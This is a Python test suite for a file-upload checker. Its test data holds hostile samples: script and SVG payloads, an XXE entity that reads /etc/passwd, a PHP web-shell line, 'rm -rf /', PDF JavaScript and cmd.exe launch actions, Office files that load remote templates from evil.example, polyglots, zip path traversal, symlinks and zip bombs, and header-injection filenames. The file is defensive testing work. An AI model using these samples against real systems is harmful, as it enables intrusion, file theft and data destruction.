"""Files that lie: about their type, their name, their size, or what else is in them."""

from __future__ import annotations

import contextlib
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from email.message import Message
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nhip.security import upload_errors as errors
from nhip.security.upload_names import attachment, safe_name
from nhip.security.uploads import OFFICE, PAPERS, PICTURES, TYPES, accept, checked_upload
from tests.security.files import HONEST, chunk, docx, pdf, picture, zipped

EVERYTHING = frozenset(TYPES)
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_what_they_are(name: str, tmp_path: Path) -> None:
    data, declared = HONEST[name]
    kind = checked_upload(data, declared, EVERYTHING)
    assert (kind.name, kind.media_type, kind.size) == (name, TYPES[name].media_type, len(data))
    assert (
        kind.safe_name
        == unicodedata.normalize("NFC", declared[: -len(Path(declared).suffix)]) + Path(declared).suffix.lower()
    )
    (tmp_path / "x").write_bytes(data)
    assert checked_upload(tmp_path / "x", declared, EVERYTHING) == kind


def test_every_type_has_an_honest_example() -> None:
    assert set(TYPES) == set(HONEST)
    assert PICTURES < PAPERS < OFFICE <= EVERYTHING


@pytest.mark.parametrize("name", HONEST)
@pytest.mark.parametrize("ending", [".exe", ".html", ".svg", ".php", ".js", ".docm"])
def test_no_content_is_taken_under_the_name_of_a_program(name: str, ending: str) -> None:
    with pytest.raises(errors.WrongName):
        checked_upload(HONEST[name][0], f"file{ending}", EVERYTHING)


LIES = {
    "html as text": (HTML, "a.txt"),
    "html behind blanks": (b"\xef\xbb\xbf \n\t<HTML>", "a.txt"),
    "html behind a comment": (b"<!-- note --> <body onload=x>", "a.csv"),
    "html as picture": (HTML, "a.png"),
    "html in utf-16": (("\ufeff" + HTML.decode()).encode("utf-16-le"), "a.txt"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.txt"),
    "xml": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "a.txt"),
    "php": (b"<?php system($_GET[0]);", "a.txt"),
    "php within": (b"a,b\n1,<?php system(0);\n", "a.csv"),
    "script within": (b"a,b\n1,<script src=//x>\n", "a.csv"),
    "shell": (b"#!/bin/sh\nrm -rf /\n", "a.txt"),
    "windows program": (b"MZ\x90\x00" + bytes(200), "a.pdf"),
    "linux program": (b"\x7fELF" + bytes(200), "a.png"),
    "mac program": (b"\xcf\xfa\xed\xfe" + bytes(200), "a.jpg"),
    "java class": (b"\xca\xfe\xba\xbe" + bytes(200), "a.jpg"),
    "windows shortcut": (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200), "a.pdf"),
    "macro document": (docx(word__vbaProject="x"), "a.docx"),
    "macro content type": (zipped({"[Content_Types].xml": "x.document.macroEnabled.main+xml"}), "a.docx"),
    "old macro sheet": (zipped({"[Content_Types].xml": "spreadsheetml.sheet.main+xml", "xl/macrosheets/a.xml": "x"}), "a.xlsx"),
    "active x": (docx(word__activeX__a="x"), "a.docx"),
    "basic in odf": (zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/a.xml": "x"}), "a.odt"),
    "program in an archive": (zipped({"a.exe": b"x"}), "a.zip"),
    "program under another name in an archive": (zipped({"a.txt": b"MZ" + bytes(80)}), "a.zip"),
    "page in an archive": (zipped({"a.html": HTML}), "a.zip"),
    "archive in an archive": (zipped({"a.dat": zipped({"b": b"x"})}), "a.zip"),
    "program in a document": (docx(word__a="MZ"), "a.docx"),
    "pdf that runs": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "a.pdf"),
    "pdf that runs, spelled": (pdf(b"/OpenAction << /S /J#61va#53cript >>"), "a.pdf"),
    "pdf that starts": (pdf(b"/AA << /S /Launch /F (cmd.exe) >>"), "a.pdf"),
    "pdf that runs, packed": (
        pdf(objects=b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n"
            + zlib.compress(b"6 0 << /S /JavaScript >>") + b"\nendstream endobj\n"),
        "a.pdf",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", LIES)
def test_what_runs_is_refused_whatever_it_calls_itself(case: str) -> None:
    data, name = LIES[case]
    with pytest.raises(errors.HoldsProgram):
        checked_upload(data, name, EVERYTHING)


REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="http://evil.example/x" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("kind", "bad"), [("attachedTemplate", True), ("oleObject", True), ("frame", True), ("hyperlink", False)]
)
def test_documents_may_link_but_not_load(kind: str, bad: bool) -> None:
    data = docx(**{"word___rels__settings.xml.rels": REMOTE.format(kind=kind)})
    if not bad:
        assert checked_upload(data, "a.docx").name == "docx"
        return
    with pytest.raises(errors.HoldsProgram):
        checked_upload(data, "a.docx")


def test_relations_with_entities_are_not_read() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    with pytest.raises(errors.DamagedUpload):
        checked_upload(docx(**{"word___rels__a.rels": bomb}), "a.docx")


@pytest.mark.parametrize(
    ("data", "name"), [(HONEST["xlsx"][0], "a.pdf"), (HONEST["pdf"][0], "a.docx"), (HONEST["csv"][0], "a.xlsx"),
                       (HONEST["png"][0], "a.pdf"), (HONEST["zip"][0], "a.xlsx"), (HONEST["docx"][0], "a.zip")]
)  # fmt: skip
def test_a_name_that_does_not_fit_the_content_is_refused(data: bytes, name: str) -> None:
    with pytest.raises(errors.WrongName):
        checked_upload(data, name, EVERYTHING)


def test_messengers_that_rename_pictures_are_forgiven() -> None:
    assert checked_upload(picture("WEBP"), "zalo.jpg").safe_name == "zalo.webp"


def test_only_what_a_desk_asked_for_is_taken() -> None:
    with pytest.raises(errors.NotAllowedHere) as caught:
        checked_upload(HONEST["zip"][0], "a.zip", PAPERS)
    assert "PDF" in str(caught.value) and "ZIP" not in str(caught.value)
    assert ".pdf" in accept() and ".heic" not in accept() and ".zip" not in accept()


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        bytes(range(256)) * 9,
        b"\0" * 99,
        b"Rar!\x1a\x07" + bytes(50),
        b"a\0b",
    ],
)
def test_what_nobody_knows_is_refused(data: bytes) -> None:
    with pytest.raises(errors.UnknownUpload):
        checked_upload(data, "a.bin", EVERYTHING)


# --- two files in one --------------------------------------------------------------------------------------------

ZIP = zipped({"a.txt": b"hidden"})
POLYGLOTS = {
    **{f"{name} and zip": data + ZIP for name, (data, _) in HONEST.items() if name in PICTURES},
    **{f"{name} and html": data + HTML for name, (data, _) in HONEST.items() if name in PICTURES - {"heic"}},
    "png and pdf": picture("PNG") + pdf(),
    "jpeg and program": picture("JPEG") + b"MZ\x90\0" + bytes(99),
    "pdf and zip": pdf() + ZIP + b"%%EOF",
    "zip behind something": b"PK\x03\x04 not this one" + ZIP,
    "zip before something": ZIP + HTML,
}


@pytest.mark.parametrize("case", POLYGLOTS)
def test_two_files_in_one_are_refused(case: str) -> None:
    with pytest.raises((errors.TwoFiles, errors.DamagedUpload)):
        checked_upload(POLYGLOTS[case], "a", EVERYTHING)


def test_the_film_behind_a_phones_photo_is_forgiven() -> None:
    film = b"\0\0\0\x18ftypmp42" + bytes(3000)
    assert checked_upload(picture("JPEG") + film, "a.jpg").name == "jpeg"


@pytest.mark.parametrize("name", ["png", "jpeg", "gif", "webp", "pdf", "docx", "xlsx", "zip"])
def test_what_is_cut_off_is_damaged(name: str) -> None:
    data, declared = HONEST[name]
    with pytest.raises((errors.DamagedUpload, errors.UnknownUpload)):
        checked_upload(data[: len(data) * 2 // 3], declared, EVERYTHING)


def test_a_protected_file_is_not_taken_unseen() -> None:
    with pytest.raises(errors.Locked):
        checked_upload(pdf(b"/Encrypt 9 0 R"), "a.pdf")
    locked = bytearray(ZIP)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.find(mark) + offset] |= 1
    with pytest.raises(errors.Locked):
        checked_upload(bytes(locked), "a.zip", EVERYTHING)


# --- archives ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "a/../../b", "C:\\a", "..\\a", "a\nb", "c:b"])
def test_no_entry_leads_out_of_its_folder(name: str) -> None:
    with pytest.raises(errors.HoldsProgram):
        checked_upload(zipped({name: b"x"}), "a.zip", EVERYTHING)


def test_links_and_doubles_are_refused() -> None:
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(errors.HoldsProgram):
        checked_upload(out.getvalue(), "a.zip", EVERYTHING)
    with pytest.raises(errors.TwoFiles):
        checked_upload(zipped({"a.txt": b"1", "A.TXT": b"2"}), "a.zip", EVERYTHING)


def test_bombs_are_not_unpacked() -> None:
    with pytest.raises(errors.PacksTooMuch):
        checked_upload(zipped({f"{n}.txt": bytes(4 << 20) for n in range(8)}), "a.zip", EVERYTHING)
    with pytest.raises(errors.PacksTooMuch):
        checked_upload(zipped({f"{n}": b"" for n in range(5_001)}), "a.zip", EVERYTHING)


def test_a_directory_that_lies_about_sizes_is_not_believed() -> None:
    """The list says 10 bytes; 32 MB come out. Readers that trust the list would be safe, the others not."""
    data = bytearray(zipped({"a.txt": bytes(32 << 20)}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.find(mark) + offset
        data[place : place + 4] = struct.pack("<I", 10)
    with pytest.raises((errors.PacksTooMuch, errors.DamagedUpload)):
        checked_upload(bytes(data), "a.zip", EVERYTHING)


def test_entries_that_share_their_bytes_are_refused() -> None:
    """Fifield's bomb: many names in the list for one and the same packed content."""
    data = zipped({"a": b"x" * 100_000})
    start, end = data.find(b"PK\x01\x02"), data.find(b"PK\x05\x06")
    listed = data[start:end]
    twin = listed.replace(b"a", b"b") if listed.count(b"a") == 1 else listed[:46] + b"b" + listed[47:]
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 2, 2)
    tail[12:16] = struct.pack("<I", len(listed) * 2)
    with pytest.raises((errors.PacksTooMuch, errors.DamagedUpload)):
        checked_upload(data[:start] + listed + twin + bytes(tail), "a.zip", EVERYTHING)


# --- sizes -------------------------------------------------------------------------------------------------------


def test_sizes_are_limited_by_type(tmp_path: Path) -> None:
    with pytest.raises(errors.EmptyUpload):
        checked_upload(b"", "a.pdf")
    sparse = tmp_path / "x"
    with sparse.open("wb") as file:
        file.write(b"a,b\n")
        file.truncate(200 << 20)
    with pytest.raises(errors.UploadTooLarge):
        checked_upload(sparse, "a.csv", EVERYTHING)
    with pytest.raises(errors.UploadTooLarge) as caught:
        checked_upload(b"long text " * 600_000, "a.txt", {"text", "zip"})
    assert caught.value.values == {"limit_mb": 5}


@given(st.binary(max_size=400), st.sampled_from(["", *(data[:64].decode("latin-1") for data, _ in HONEST.values())]))
@settings(max_examples=300, deadline=None)
def test_no_bytes_make_it_stumble(tail: bytes, head: str) -> None:
    try:
        kind = checked_upload(head.encode("latin-1") + tail or b"x", "a", EVERYTHING)
    except errors.UnusableUpload:
        return
    assert kind.name in TYPES


@given(st.sampled_from(sorted(HONEST)), st.data())
@settings(max_examples=300, deadline=None)
def test_no_broken_file_makes_it_stumble(name: str, data: st.DataObject) -> None:
    broken = bytearray(HONEST[name][0])
    for _ in range(data.draw(st.integers(1, 4))):
        broken[data.draw(st.integers(0, len(broken) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(errors.UnusableUpload):
        checked_upload(bytes(broken), "a", EVERYTHING)


def test_a_text_chunk_may_say_what_it_wants_for_it_is_taken_away() -> None:
    png = picture("PNG")
    sly = png[:33] + chunk(b"tEXt", b"Comment\0<script>") + png[33:]
    assert checked_upload(sly, "a.png").name == "png"


# --- names -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("declared", "safe"),
    [
        ("Đơn đề nghị.pdf", "Đơn đề nghị.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\lan\\ho so.PDF", "ho so.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("a\u202efdp.exe\u202c.pdf", None),
        ("ảnh\u202egpj.pdf", "ảnhgpj.pdf"),
        ("a\x00b\x1b.pdf", "ab.pdf"),
        ("", "file.pdf"),
        (".pdf", "pdf.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("...", "file.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("com1.anything.pdf", "_com1.anything.pdf"),
        ("lan@gmail.com.pdf", "lan@gmail.com.pdf"),
        ("Quyết định 123.2026.pdf", "Quyết định 123.2026.pdf"),
        ("hoá đơn.exe.pdf", None),
        ("shell.php.pdf", None),
        ("a.pdf.exe", None),
        ("a.PhP", None),
        ('a"b<c>|d?*.pdf', "a_b_c__d__.pdf"),
        ("x" * 5000 + ".pdf", "file.pdf"),
    ],
)
def test_names_are_made_safe_or_refused(declared: str, safe: str | None) -> None:
    if safe is None:
        with pytest.raises(errors.WrongName):
            safe_name(declared, (".pdf",))
    elif len(declared) > 1000:
        assert safe_name(declared, (".pdf",)) == "x" * 120 + ".pdf"
    else:
        assert safe_name(declared, (".pdf",)) == safe


@given(st.text(max_size=300))
def test_a_safe_name_is_one_plain_part_of_a_path(declared: str) -> None:
    try:
        name = safe_name(declared, (".pdf",))
    except errors.WrongName:
        return
    assert name.endswith(".pdf") and 4 < len(name) <= 125
    assert not re.search(r'[/\\<>:"|?*%;`$\r\n\0]', name) and not name.startswith((".", " "))
    assert all(unicodedata.category(sign)[0] != "C" for sign in name)
    assert Path("/keep", name).resolve().parent == Path("/keep")


@given(st.text(max_size=200))
def test_a_name_cannot_break_out_of_its_header(name: str) -> None:
    header = attachment(name)
    assert header.isascii() and header.isprintable()
    assert re.fullmatch(r"attachment; filename=\"[A-Za-z0-9 ._()-]+\"; filename\*=UTF-8''[A-Za-z0-9._~%-]+", header)
    message = Message()
    message["Content-Disposition"] = header
    assert message.get_content_disposition() == "attachment"


def test_a_vietnamese_name_arrives() -> None:
    assert attachment("Đơn đề nghị.pdf") == (
        "attachment; filename=\"Don de nghi.pdf\"; filename*=UTF-8''%C4%90%C6%A1n%20%C4%91%E1%BB%81%20ngh%E1%BB%8B.pdf"
    )
